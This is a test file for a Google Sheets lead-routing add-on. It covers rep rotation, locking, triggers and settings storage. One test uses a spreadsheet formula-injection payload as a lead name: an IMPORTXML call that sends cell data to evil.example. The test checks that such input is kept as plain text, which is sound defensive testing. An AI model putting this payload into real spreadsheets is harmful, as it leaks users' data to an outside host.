// The built bundle (apps-script/dist/Code.js) driven through its global functions in a vm
// context holding only the Apps Script fakes.
import {routeBatch} from '../../shared';
import {callsOf, putSheet, sheetValues, type World} from './fakes';
import fs from 'node:fs';
import path from 'node:path';
import {DIST, bundleCode, newExecution, run} from './loadBundle';
import {addLeads, column, logColumn, logRows, ownerIds, simpleConfig, simpleLeads, worldFor} from './harness';
import {ASSIGNMENT_HEADERS, LOG_HEADERS, REP_HEADERS, SHEETS, TERRITORY_HEADERS} from '../src/layout';
import {STATE_COUNT_KEY} from '../src/stateStore';
import {createWorld} from './fakes';

const GLOBALS = [
  'onOpen',
  'onInstall',
  'setUpSheets',
  'assignNewLeads',
  'previewRouting',
  'showSettings',
  'enableAutoAssign',
  'disableAutoAssign',
  'onFormSubmitAssign',
  'onChangeAssign',
  'catchUpAssign',
  'getSettings',
  'saveSettings',
  'assignFromSidebar',
  'setAutoAssign',
  'resetRotation',
  'showHelp',
  'addSamples',
  'removeSamples',
];

/** The core's owners for these leads in one batch from an empty state. */
function coreOwners(
  leads: Record<string, unknown>[],
  now: number | string,
  config = simpleConfig(),
): (string | null)[] {
  return routeBatch(leads, config, undefined, now).decisions.map(d => d.ownerId);
}

function lastAlert(world: World): string {
  return world.ui.alerts[world.ui.alerts.length - 1] ?? '';
}

describe('the bundle as Apps Script sees it', () => {
  it('is plain script code exposing every menu, trigger and sidebar function as a global', () => {
    const code = bundleCode();
    expect(code).not.toMatch(/^\s*(import|export)\s/m);
    expect(code).not.toMatch(/\brequire\(/);
    const ex = newExecution(createWorld());
    for (const g of GLOBALS) expect(ex.globals()).toContain(g);
    // The context has nothing from Node.
    for (const name of ['require', 'process', 'module', 'Buffer']) expect(ex.globals()).not.toContain(name);
  });

  it('onOpen builds the Lead Routing menu, and every item names a global function', () => {
    const world = createWorld();
    const ex = newExecution(world);
    ex.call('onOpen', {authMode: 'FULL'});
    const menu = world.ui.menus[0];
    expect(menu.name).toBe('add-on'); // createAddonMenu: Extensions → (the add-on's name)
    const fns = menu.items.map(i => i[1]).filter(Boolean);
    expect(fns).toEqual([
      'showSettings',
      'assignNewLeads',
      'previewRouting',
      'setUpSheets',
      'addSamples',
      'removeSamples',
      'enableAutoAssign',
      'disableAutoAssign',
      'showHelp',
    ]);
    for (const f of fns) expect(ex.globals()).toContain(f);
  });
});

describe('Set up sheets', () => {
  it('creates Reps, Territories, Leads, Routing Log with headers, a checkbox on Available and a dashboard', () => {
    const world = createWorld();
    run(world, 'setUpSheets');
    const names = world.sheets.map(s => s.name);
    expect(names).toEqual(
      expect.arrayContaining([SHEETS.reps, SHEETS.territories, SHEETS.leads, SHEETS.log, SHEETS.dashboard]),
    );
    expect(sheetValues(world, SHEETS.reps)[0]).toEqual([...REP_HEADERS]);
    expect(sheetValues(world, SHEETS.territories)[0]).toEqual([...TERRITORY_HEADERS]);
    expect(sheetValues(world, SHEETS.leads)[0]).toEqual(expect.arrayContaining([...ASSIGNMENT_HEADERS]));
    expect(sheetValues(world, SHEETS.log)[0]).toEqual([...LOG_HEADERS]);
    const reps = world.sheets.find(s => s.name === SHEETS.reps)!;
    expect(reps.validations).toContainEqual(
      expect.objectContaining({col: REP_HEADERS.indexOf('Available') + 1, row: 2, kind: 'checkbox'}),
    );
    const dash = world.sheets.find(s => s.name === SHEETS.dashboard)!;
    expect(dash.charts).toHaveLength(2);
    // Two panels: leads per rep (A:B) and per territory (C:D), each a QUERY over its Leads column and a chart.
    const leadsHeader = sheetValues(world, SHEETS.leads)[0];
    const letter = (name: string) => String.fromCharCode(65 + leadsHeader.indexOf(name));
    expect(sheetValues(world, SHEETS.dashboard)[0].slice(0, 4)).toEqual([
      'Leads per rep',
      '',
      'Leads per territory',
      '',
    ]);
    expect(dash.formulas.get('1,0')).toContain(`{'Leads'!${letter('Assigned To')}2:${letter('Assigned To')}}`);
    expect(dash.formulas.get('1,0')).toContain("label Col1 'Rep'");
    expect(dash.formulas.get('1,2')).toContain(`{'Leads'!${letter('Territory')}2:${letter('Territory')}}`);
    expect(dash.formulas.get('1,2')).toContain("label Col1 'Territory'");
    expect(
      dash.charts.map(c => {
        const chart = c as unknown as {type: string; ranges: string[]; options: {title: string}};
        return [chart.type, chart.ranges, chart.options.title];
      }),
    ).toEqual([
      ['column', [`${SHEETS.dashboard}!A2:B52`], 'Leads per rep'],
      ['column', [`${SHEETS.dashboard}!C2:D52`], 'Leads per territory'],
    ]);
    expect(lastAlert(world)).toMatch(/Created Reps, Territories, Leads, Routing Log/);
  });

  it('is safe to run again: keeps data, adds only missing headers, does not duplicate charts', () => {
    const world = createWorld();
    putSheet(world, SHEETS.leads, [
      ['Email', 'Company'],
      ['a@x.com', 'Acme'],
    ]);
    run(world, 'setUpSheets');
    run(world, 'setUpSheets');
    expect(sheetValues(world, SHEETS.leads)[0]).toEqual(['Email', 'Company', ...ASSIGNMENT_HEADERS]);
    expect(sheetValues(world, SHEETS.leads)[1].slice(0, 2)).toEqual(['a@x.com', 'Acme']);
    expect(world.sheets.find(s => s.name === SHEETS.dashboard)!.charts).toHaveLength(2);
  });

  it('then routes leads typed under the starter headers', () => {
    const world = createWorld();
    run(world, 'setUpSheets');
    const reps = world.sheets.find(s => s.name === SHEETS.reps)!;
    reps.values.push(['Ana Diaz', 'ana@example.com', true], ['Ben Ode', 'ben@example.com', true]);
    const leads = world.sheets.find(s => s.name === SHEETS.leads)!;
    leads.values.push(['Zed', 'zed@x.com'], ['Yan', 'yan@x.com'], ['Xi', 'xi@x.com']);
    run(world, 'assignNewLeads');
    expect(column(world, SHEETS.leads, 'Assigned To')).toEqual(['Ana Diaz', 'Ben Ode', 'Ana Diaz']);
    expect(lastAlert(world)).toMatch(/Assigned 3 new leads/);
  });
});

describe('Assign new leads', () => {
  it('gives each row the owner the core gives, writes the four columns and one log row per decision', () => {
    const leads = simpleLeads(40);
    const world = worldFor(simpleConfig(), leads);
    run(world, 'assignNewLeads');
    expect(ownerIds(world, simpleConfig())).toEqual(coreOwners(leads, world.clock.ms));
    const at = column(world, SHEETS.leads, 'Assigned At');
    expect(at.every(v => Object.prototype.toString.call(v) === '[object Date]')).toBe(true);
    expect(column(world, SHEETS.leads, 'Territory').filter(t => t === 'Texas')).toHaveLength(10);
    expect(logRows(world)).toHaveLength(40);
    expect(logColumn(world, 'Row / Record')).toEqual(leads.map((_, i) => i + 2));
  });

  it('respects availability: an unticked rep gets nothing, ticking them back brings them in', () => {
    const world = worldFor(simpleConfig(), simpleLeads(12));
    const reps = world.sheets.find(s => s.name === SHEETS.reps)!;
    const avail = REP_HEADERS.indexOf('Available');
    reps.values[2][avail] = false; // Ben
    run(world, 'assignNewLeads');
    expect(ownerIds(world, simpleConfig())).not.toContain('ben');
    reps.values[2][avail] = true;
    addLeads(world, simpleLeads(12, 12));
    run(world, 'assignNewLeads');
    expect(ownerIds(world, simpleConfig()).slice(12)).toContain('ben');
  });

  it('continues the rotation across runs (state in document properties)', () => {
    const leads = simpleLeads(30);
    const world = worldFor(simpleConfig(), leads.slice(0, 7));
    run(world, 'assignNewLeads');
    addLeads(world, leads.slice(7, 19));
    run(world, 'assignNewLeads');
    addLeads(world, leads.slice(19));
    run(world, 'catchUpAssign');
    expect(ownerIds(world, simpleConfig())).toEqual(coreOwners(leads, world.clock.ms));
    expect(logRows(world)).toHaveLength(30);
  });

  it('two overlapping runs never assign a row twice (the second leaves the rows to the next run)', () => {
    const leads = simpleLeads(25);
    const world = worldFor(simpleConfig(), leads);
    const a = newExecution(world);
    let second: unknown = 'not started';
    world.onCall = name => {
      // After A has read the sheets and taken its decisions, before it writes them.
      if (name === 'Properties.getProperties' && second === 'not started') {
        second = 'running';
        run(world, 'onFormSubmitAssign', {});
        second = 'done';
      }
    };
    a.call('assignNewLeads');
    world.onCall = null;
    expect(second).toBe('done');
    expect(logRows(world)).toHaveLength(25);
    expect(ownerIds(world, simpleConfig())).toEqual(coreOwners(leads, world.clock.ms));
    run(world, 'catchUpAssign');
    expect(logRows(world)).toHaveLength(25);
  });

  it('(control) without the lock the overlapping run is caught only by the re-read before writing', () => {
    const world = worldFor(simpleConfig(), simpleLeads(25));
    let started = false;
    world.onCall = name => {
      if (name === 'Properties.getProperties' && !started) {
        started = true;
        newExecution(world, {brokenLock: true}).call('onFormSubmitAssign', {});
      }
    };
    newExecution(world, {brokenLock: true}).call('assignNewLeads');
    world.onCall = null;
    // The outer run routed all 25 rows again (its rotation counted them twice): only its re-read
    // of the cells kept it from writing over the other run's assignments.
    expect(lastAlert(world)).toMatch(/Rows 2, 3, .* changed while this run was routing: left as they are/);
    expect(logRows(world)).toHaveLength(25);
  });

  it('a lock held elsewhere loses nothing: the run leaves the rows, the next run assigns them', () => {
    const leads = simpleLeads(9);
    const world = worldFor(simpleConfig(), leads);
    world.lockHolder = 'another-execution';
    run(world, 'assignNewLeads');
    expect(lastAlert(world)).toMatch(/Another run is assigning leads/);
    expect(run(world, 'catchUpAssign')).toBeUndefined(); // busy is not a trigger failure
    expect(column(world, SHEETS.leads, 'Assigned To').every(v => v === '')).toBe(true);
    expect(world.props.document.has(STATE_COUNT_KEY)).toBe(false);
    world.lockHolder = null;
    run(world, 'catchUpAssign');
    expect(ownerIds(world, simpleConfig())).toEqual(coreOwners(leads, world.clock.ms));
  });

  it('stops before the 6-minute limit and the next run picks up the remaining rows', () => {
    const leads = simpleLeads(2000);
    const world = worldFor(simpleConfig(), leads);
    world.clock.tickMs = 20000; // every clock read moves 20 s on
    run(world, 'assignNewLeads');
    const first = column(world, SHEETS.leads, 'Assigned To').filter(v => v !== '').length;
    expect(first).toBeGreaterThan(0);
    expect(first).toBeLessThan(2000);
    expect(lastAlert(world)).toMatch(/left for the next run/);
    // The assigned rows are the first ones, in order; the rest are untouched.
    const to = column(world, SHEETS.leads, 'Assigned To');
    expect(to.slice(0, first).every(v => v !== '')).toBe(true);
    expect(to.slice(first).every(v => v === '')).toBe(true);
    world.clock.tickMs = 0;
    run(world, 'catchUpAssign');
    expect(ownerIds(world, simpleConfig())).toEqual(coreOwners(leads, world.clock.ms));
    expect(logRows(world)).toHaveLength(2000);
  });

  it('escapes lead data: a lead named =IMPORTXML(...) stays text in the log', () => {
    const evil = '=IMPORTXML("https://evil.example/x?"&A1, "//a")';
    const world = worldFor(simpleConfig(), [
      {Name: evil, Email: '+1@x.com', State: 'TX'},
      {Name: '@SUM(1)', Email: 'b@x.com', State: 'CA'},
    ]);
    run(world, 'assignNewLeads');
    const log = world.sheets.find(s => s.name === SHEETS.log)!;
    expect(log.formulas.size).toBe(0);
    expect(logColumn(world, 'Lead')).toEqual([evil, '@SUM(1)']);
  });

  it('rewriting rows between new rows keeps their text as text and their formulas as formulas', () => {
    const world = worldFor(simpleConfig(), simpleLeads(3));
    const leads = world.sheets.find(s => s.name === SHEETS.leads)!;
    const header = leads.values[0].map(String);
    const territory = header.indexOf('Territory');
    const reason = header.indexOf('Routing Reason');
    leads.values[2][header.indexOf('Assigned To')] = 'Someone';
    leads.values[2][territory] = '=not a formula';
    leads.formulas.set(`2,${reason}`, '=CONCAT("a","b")');
    leads.values[2][reason] = 'ab';
    run(world, 'assignNewLeads');
    expect(leads.values[2][territory]).toBe('=not a formula');
    expect(leads.formulas.has(`2,${territory}`)).toBe(false);
    expect(leads.formulas.get(`2,${reason}`)).toBe('=CONCAT("a","b")');
    expect(leads.values[1][header.indexOf('Assigned To')]).not.toBe('');
    expect(leads.values[3][header.indexOf('Assigned To')]).not.toBe('');
  });

  it('keeps a large rotation state in chunks under the 9 KB property limit and dedupes across runs', () => {
    const config = {...simpleConfig(), dedupe: {fields: ['email'], windowHours: 720}};
    const leads = simpleLeads(3000);
    const world = worldFor(config, leads);
    run(world, 'assignNewLeads');
    const chunks = Number(world.props.document.get(STATE_COUNT_KEY));
    expect(chunks).toBeGreaterThan(1);
    for (const [, v] of world.props.document) expect(Buffer.byteLength(v)).toBeLessThanOrEqual(9 * 1024);
    // The same e-mail again goes to the same rep, in a later run.
    addLeads(world, [{...leads[100], Name: 'Again'}]);
    run(world, 'assignNewLeads');
    const owners = ownerIds(world, config);
    expect(owners[3000]).toBe(owners[100]);
    expect(logColumn(world, 'Stage')[3000]).toBe('duplicate');
    // No e-mail address in the stored state.
    expect([...world.props.document.values()].join('')).not.toMatch(/lead101@example\.com/);
  });

  it('a bad Reps or Territories sheet gets a message naming the row; nothing is written', () => {
    const world = worldFor(simpleConfig(), simpleLeads(3));
    const terr = world.sheets.find(s => s.name === SHEETS.territories)!;
    terr.values[1][TERRITORY_HEADERS.indexOf('Reps')] = 'Nobody Known';
    run(world, 'assignNewLeads');
    expect(lastAlert(world)).toMatch(/Territories row 2, Reps: "Nobody Known" is not on the Reps sheet/);
    expect(column(world, SHEETS.leads, 'Assigned To').every(v => v === '')).toBe(true);
    expect(() => run(world, 'catchUpAssign')).toThrow(/Nobody Known/);
  });

  it('e-mails each rep one digest when notifications are on', () => {
    const world = worldFor(simpleConfig(), simpleLeads(9), {settings: {notify: true}});
    run(world, 'assignNewLeads');
    expect(world.mail.map(m => m.to).sort()).toEqual(['ana@example.com', 'ben@example.com', 'cy@example.com']);
    expect(world.mail.find(m => m.to === 'ana@example.com')!.subject).toMatch(/new leads? for you/);
    expect(callsOf(world, 'MailApp.sendEmail')).toBe(3);
  });
});

describe('Preview routing', () => {
  it('shows the owner each new row would get and changes nothing', () => {
    const leads = simpleLeads(6);
    const world = worldFor(simpleConfig(), leads);
    const before = JSON.stringify(world.sheets.map(s => s.values));
    const props = JSON.stringify([...world.props.document]);
    run(world, 'previewRouting');
    expect(JSON.stringify(world.sheets.map(s => s.values))).toBe(before);
    expect(JSON.stringify([...world.props.document])).toBe(props);
    const html = world.ui.dialogs[0].html;
    const expected = coreOwners(leads, world.clock.ms).map(id => simpleConfig().reps.find(r => r.id === id)!.name!);
    const shown = [...html.matchAll(/<tr><td>\d+<\/td><td>[^<]*<\/td><td>([^<]*)<\/td>/g)].map(m => m[1]);
    expect(shown).toEqual(expected);
    run(world, 'assignNewLeads');
    expect(column(world, SHEETS.leads, 'Assigned To')).toEqual(expected);
  });
});

describe('automatic assignment', () => {
  it('installs form-submit, change and hourly triggers once; disable removes them', () => {
    const world = worldFor(simpleConfig(), []);
    run(world, 'enableAutoAssign');
    run(world, 'enableAutoAssign');
    expect(world.triggers.map(t => `${t.handler}:${t.kind}`).sort()).toEqual([
      'catchUpAssign:CLOCK',
      'onChangeAssign:ON_CHANGE',
      'onFormSubmitAssign:ON_FORM_SUBMIT',
    ]);
    expect(lastAlert(world)).toMatch(/at most once an hour/);
    run(world, 'disableAutoAssign');
    expect(world.triggers).toHaveLength(0);
  });

  it('the change trigger assigns pasted rows and ignores formatting changes', () => {
    const world = worldFor(simpleConfig(), simpleLeads(4));
    run(world, 'onChangeAssign', {changeType: 'FORMAT'});
    expect(column(world, SHEETS.leads, 'Assigned To').every(v => v === '')).toBe(true);
    run(world, 'onChangeAssign', {changeType: 'INSERT_ROW'});
    expect(column(world, SHEETS.leads, 'Assigned To').every(v => v !== '')).toBe(true);
  });
});

describe('Settings sidebar', () => {
  it('saves settings to document properties and the Airtable token to user properties only', () => {
    const world = worldFor(simpleConfig(), []);
    world.files['Sidebar.html'] = fs.readFileSync(path.join(DIST, 'Sidebar.html'), 'utf8');
    const ex = newExecution(world);
    ex.call('showSettings');
    const sidebar = world.ui.sidebars[0];
    // The sidebar calls global functions of the bundle.
    const script = sidebar.slice(sidebar.indexOf('<script>'));
    const called = [
      ...script.matchAll(/\.withFailureHandler\((?:[^()]|\([^()]*(?:\([^()]*\))?[^()]*\))*\)\s*\.(\w+)\(/g),
    ].map(m => m[1]);
    expect(new Set(called)).toEqual(
      new Set(['getSettings', 'saveSettings', 'assignFromSidebar', 'previewRouting', 'setAutoAssign', 'resetRotation']),
    );
    for (const f of called) expect(ex.globals()).toContain(f);
    const token = 'patAbCdEfGhIj.0123456789abcdef';
    const r = run(world, 'saveSettings', {
      source: 'airtable',
      strategy: 'weighted',
      cascade: ['exact', 'pool'],
      defaultOwner: 'Ana Diaz',
      dedupe: {enabled: true, fields: ['email'], windowHours: 48},
      notify: false,
      airtableBaseId: 'appABCDEFGHIJKLMN',
      airtableToken: token,
    }) as {ok: boolean; problems: string[]};
    expect(r.problems).toEqual([]);
    expect(world.props.user.get('leadRouting.airtableToken')).toBe(token);
    expect([...world.props.document.values()].join('')).not.toContain(token);
    const state = run(world, 'getSettings') as {
      settings: {strategy: string; source: string};
      hasAirtableToken: boolean;
    };
    expect(state.settings.strategy).toBe('weighted');
    expect(state.hasAirtableToken).toBe(true);
    expect(JSON.stringify(state)).not.toContain(token);
    const bad = run(world, 'saveSettings', {strategy: 'random'}) as {ok: boolean; problems: string[]};
    expect(bad.ok).toBe(false);
    expect(bad.problems[0]).toMatch(/Strategy must be one of/);
  });
});

describe('switching the source with automatic assignment on', () => {
  it('reinstalls the triggers for the new source (only the hourly catch-up for Airtable)', () => {
    const world = worldFor(simpleConfig(), []);
    run(world, 'enableAutoAssign');
    const r = run(world, 'saveSettings', {source: 'airtable', airtableBaseId: 'appABCDEFGHIJKLMN'}) as {ok: boolean};
    expect(r.ok).toBe(true);
    expect(world.triggers.map(t => t.handler)).toEqual(['catchUpAssign']);
  });
});
